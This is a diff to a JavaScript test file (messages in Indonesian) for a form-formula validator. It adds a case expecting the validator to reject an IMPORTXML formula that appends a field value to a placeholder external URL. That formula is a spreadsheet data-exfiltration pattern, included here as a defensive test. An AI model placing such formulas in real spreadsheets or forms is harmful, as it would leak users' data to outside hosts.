@@ -105,6 +105,10 @@ describe('formSchema', () => {
     ['{pagu}*2', 'rumus harus diawali tanda ='],
     ['=SUM({pagu},1)', 'rumus memakai koma; pisahkan argumen dengan titik koma (;)'],
     ['={pagu}*0.15', 'rumus memuat angka desimal; tulis sebagai pecahan, misalnya 15/100'],
+    [
+      '=IMPORTXML("http://x"&{pagu};"//a")',
+      'rumus memakai IMPORTXML yang mengambil atau membuka sesuatu di luar berkas; tidak diizinkan dalam formulir',
+    ],
     ['=SUM({1;2})', 'rumus memuat larik { } yang tidak berlaku di semua pengaturan bahasa'],
     ['={anggaran}', 'menunjuk kolom "anggaran" yang tidak ada di formulir ini'],
     ['=SUM({pagu}', 'kurung pada rumus tidak berpasangan'],
